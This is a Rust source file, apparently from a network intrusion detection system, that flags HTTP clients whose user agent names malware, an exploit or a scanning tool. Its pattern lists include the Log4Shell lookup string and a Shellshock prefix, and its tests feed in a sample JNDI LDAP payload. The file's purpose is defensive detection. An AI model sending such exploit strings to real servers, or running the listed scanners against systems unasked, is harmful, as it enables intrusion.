//! A client that names itself as malware or an attack tool does.

use std::net::IpAddr;

use slips_core::detector::{Cx, Detector, Header, Role, Spec, Threshold, Unit};
use slips_core::event::{Event, EventKind, Http};
use slips_core::evidence::{Entity, EvidenceKind, Finding, ThreatLevel};
use slips_core::flow::Proto;

use crate::Settings;
use crate::ladder::rung;
use crate::steps::{Limits, Steps, in_steps};
use crate::web;

/// The registry's entry.
pub static SPEC: Spec = Spec {
    name: "suspicious_user_agent",
    kinds: &[EvidenceKind::SuspiciousUserAgent],
    events: &[EventKind::Http],
    roles: &[Role::Src],
    thresholds: &[BAD, TOOL],
    header: Header {
        detects: "A client that names itself as malware or an attack tool does.",
        attack: "T1071.001 Web Protocols, T1190 Exploit Public-Facing Application, T1595.002 Vulnerability Scanning.",
        rule: "The user agent contains, in any letter case, an exploit (`${jndi:`), the name of known malware's \
            client, or that of a scanner. Per server.",
        numbers: "The original tells each request with high 1.0 and knows httpsend, chm_msdn, jndi, tesseract and \
            `pb`; we leave `pb` out, which is in many harmless names.",
        quiet: "Whole names of tools, no fragments; scanners are medium, because owners scan themselves and surveys \
            of the internet knock everywhere; nothing here is critical, and eight servers of one source weigh.",
        evasion: "Any other name.",
        proof: "Proven, a request over TCP; of one of our hosts outwards not, since any page can have it made.",
    },
};

/// Steps in requests with an exploit or of malware.
pub const BAD: Threshold = Threshold::steps(
    "malware_requests",
    "requests of an exploit or a known malware to one server in a window",
    Unit::Count,
    &[rung(1, ThreatLevel::High, 0.8), rung(20, ThreatLevel::High, 1.0)],
);
/// Steps in requests of scanners.
pub const TOOL: Threshold = Threshold::steps(
    "scanner_requests",
    "requests of a scanner to one server in a window",
    Unit::Count,
    &[rung(1, ThreatLevel::Medium, 0.6), rung(100, ThreatLevel::High, 0.7)],
);

/// Exploits and malware, lower case.
const BAD_NAMES: [&str; 5] = ["jndi:", "httpsend", "chm_msdn", "tesseract", "() { :"];
/// Scanners, lower case.
const TOOL_NAMES: [&str; 12] = [
    "sqlmap",
    "nikto",
    "nmap scripting",
    "masscan",
    "dirbuster",
    "gobuster",
    "feroxbuster",
    "wpscan",
    "nuclei",
    "wfuzz",
    "acunetix",
    "(hydra)",
];

const LIMITS: Limits = Limits { keys: 256, weighing: 8 };

/// See the module.
#[derive(Debug)]
pub struct SuspiciousUserAgent {
    bad: Steps<IpAddr>,
    tool: Steps<IpAddr>,
}

impl SuspiciousUserAgent {
    /// With these settings.
    pub fn new(settings: &Settings) -> Self {
        Self {
            bad: Steps::new(settings.ladder(&SPEC, &BAD), LIMITS),
            tool: Steps::new(settings.ladder(&SPEC, &TOOL), LIMITS),
        }
    }
}

fn contains(text: &str, lower: &str) -> bool {
    text.as_bytes().windows(lower.len()).any(|part| part.eq_ignore_ascii_case(lower.as_bytes()))
}

impl SuspiciousUserAgent {
    fn on_http(&mut self, cx: &mut Cx<'_>, http: &Http) {
        let agent = http.user_agent.as_str();
        let named = |names: &[&str]| names.iter().any(|name| contains(agent, name));
        let (dst, uid) = (http.about.dst, http.about.uid);
        let reached = if named(&BAD_NAMES) {
            self.bad.add(cx, dst.addr, uid)
        } else if named(&TOOL_NAMES) {
            self.tool.add(cx, dst.addr, uid)
        } else {
            return;
        };
        let Some(reached) = reached else { return };
        let shown: String = agent.chars().take(120).collect();
        let text = format!("suspicious user agent `{shown}` at {dst}, {} requests", reached.n);
        cx.emit(Finding {
            victim: Some(Entity::Ip(dst.addr)),
            proto: Some(Proto::Tcp),
            text,
            proof: web::proof_of_client(cx.facts()),
            ..reached.finding(cx, EvidenceKind::SuspiciousUserAgent, http.about.src.addr, http.about.at)
        });
    }
}

impl Detector for SuspiciousUserAgent {
    in_steps!(bad, tool);

    fn on_event(&mut self, cx: &mut Cx<'_>, event: &Event) {
        if let Event::Http(http) = event
            && !http.user_agent.is_empty()
        {
            self.on_http(cx, http);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_traces::{bench, http, levels};

    fn told(n: i64, agent: &str) -> Vec<Finding> {
        let mut bench = bench(SuspiciousUserAgent::new(&Settings::default()));
        let request = |n| {
            let mut request = http("203.0.113.9", "example.org", "/", n);
            request.user_agent = agent.into();
            Event::Http(Box::new(request))
        };
        (0..n).flat_map(|n| bench.feed(&request(n))).collect()
    }

    #[test]
    fn exploits_are_high_and_scanners_medium() {
        assert_eq!(levels(&told(19, "${JNDI:ldap://x/a}")), ["high 0.8"]);
        assert_eq!(levels(&told(20, "${JNDI:ldap://x/a}")), ["high 0.8", "high 1"]);
        assert_eq!(levels(&told(99, "sqlmap/1.8")), ["medium 0.6"]);
    }

    #[test]
    fn ordinary_clients_are_silent() {
        for agent in ["", "Mozilla/5.0 (X11; Linux x86_64) pb", "curl/8.5.0", "Microsoft NCSI", "jnd"] {
            assert!(told(50, agent).is_empty(), "{agent}");
        }
    }
}
